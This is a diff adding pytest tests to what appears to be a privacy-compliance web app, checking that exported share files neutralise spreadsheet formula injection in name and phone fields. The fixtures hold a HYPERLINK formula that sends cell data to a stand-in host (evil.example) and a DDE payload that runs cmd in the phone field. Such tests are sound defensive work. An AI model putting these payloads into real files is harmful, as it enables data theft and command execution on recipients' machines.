@@ -214,3 +214,50 @@ def test_pledge_share_writes_the_file_and_names_a_wrong_recipient(people, tmp_pa
 def test_the_disclosures_page_reads_in_chinese(people, privacy_officer, client_for):
     page = client_for(privacy_officer).get("/console/disclosures/")
     assert "对外提供日志" in page.text and "客户名单供应商" in page.text
+
+
+# --- The file opens as data in a spreadsheet (OWASP CSV Injection) ---------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+
+
+def test_a_formula_name_reaches_the_recipient_as_text_and_phones_stay_whole(
+    people, privacy_officer
+):
+    """A name a spreadsheet would run starts with a quote in the share file, whichever way the
+    file is made; a real phone number keeps its +, a formula in the phone column does not."""
+    ada = people["ada"]
+    for tag, phone in (("eve", "+86 139 0000 0000"), ("mallory", "+1+cmd|' /C calc'!A0")):
+        demo_requester(
+            tag,
+            organization=ada.organization,
+            policy_version=ada.policy_version,
+            name=FORMULA_NAME,
+            phone=phone,
+        )
+    share = share_export(key="lead_generation", actor=privacy_officer)
+    by_email = {row["email"]: row for row in rows(share)}
+    assert by_email["eve@acme-robots.cn"]["name"] == "'" + FORMULA_NAME
+    assert by_email["eve@acme-robots.cn"]["phone"] == "+86 139 0000 0000"
+    assert by_email["ada@acme-robots.cn"]["phone"] == "+86 138 0013 8000"
+    assert by_email["mallory@acme-robots.cn"]["phone"] == "'+1+cmd|' /C calc'!A0"
+    assert not any(line.startswith("=") for line in share.csv().splitlines())
+
+
+def test_the_console_and_the_command_hand_out_the_neutralised_file(
+    people, privacy_officer, client_for, tmp_path
+):
+    ada = people["ada"]
+    demo_requester(
+        "eve", organization=ada.organization, policy_version=ada.policy_version, name=FORMULA_NAME
+    )
+    response = client_for(privacy_officer).post(
+        "/en/console/disclosures/", {"action": "share", "recipient": "list_purchase"}
+    )
+    downloaded = list(csv.DictReader(io.StringIO(response.content.decode())))
+    output = tmp_path / "list.csv"
+    call_command("share", "list_purchase", output=str(output))
+    written = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8"))))
+    for file in (downloaded, written):
+        eve = next(row for row in file if row["email"] == "eve@acme-robots.cn")
+        assert eve["name"] == "'" + FORMULA_NAME
